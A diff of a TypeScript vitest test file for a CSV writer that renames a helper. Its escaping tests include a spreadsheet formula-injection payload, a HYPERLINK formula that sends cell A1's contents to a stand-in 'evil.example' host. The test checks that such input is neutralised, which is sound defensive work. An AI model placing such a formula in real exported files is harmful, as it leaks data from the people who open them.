@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { type CsvValue, toCsv } from './csv.ts';
 
-const one = (value: CsvValue) => toCsv([{ header: 'A', value: () => value }], [0]).split('\r\n')[1];
+/** The only cell of a file with one row. */
+const cellOf = (value: CsvValue) => toCsv([{ header: 'A', value: () => value }], [0]).split('\r\n')[1];
 
 describe('toCsv', () => {
   it('writes a header and a line per row, marked as UTF-8', () => {
@@ -21,7 +22,7 @@ describe('toCsv', () => {
     [null, ''],
     [undefined, ''],
     [-3, '-3'],
-  ])('writes %j as %s', (value, written) => expect(one(value)).toBe(written));
+  ])('writes %j as %s', (value, written) => expect(cellOf(value)).toBe(written));
 
   it('keeps a line break within its cell', () => {
     expect(toCsv([{ header: 'A', value: () => 'one\ntwo' }], [0])).toContain('"one\ntwo"');
@@ -38,6 +39,6 @@ describe('toCsv', () => {
     '＝1+1',
     '=HYPERLINK("https://evil.example?"&A1,"here")',
   ])('escapes %j, which would be a formula', (value) => {
-    expect(one(value)?.replace(/^"/, '').startsWith("'")).toBe(true);
+    expect(cellOf(value)?.replace(/^"/, '').startsWith("'")).toBe(true);
   });
 });
